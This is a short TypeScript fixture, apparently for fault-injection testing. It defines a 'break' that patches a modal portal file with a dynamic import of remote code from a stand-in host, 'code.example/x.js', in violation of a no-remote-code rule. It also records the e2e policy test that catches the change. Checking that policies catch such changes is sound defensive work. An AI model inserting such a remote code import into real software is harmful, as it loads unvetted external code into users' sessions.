import type { Break } from '../break'

export const made: Break = {
  promise: 'No code comes from elsewhere at run time (R18).',
  file: 'plugins/modal/src/views/create-portal.ts',
  find: "  element.setAttribute('aria-live', 'off')\n",
  replace:
    "  element.setAttribute('aria-live', 'off')\n  void import(/* @vite-ignore */ 'https://code.example/x.js').catch(() => undefined)\n",
  caughtBy: {
    stage: 'e2e',
    file: 'policy.spec.ts',
    test: 'policy: the list opens without a violation',
    message: 'script-src-elem https://code.example/x.js',
  },
}
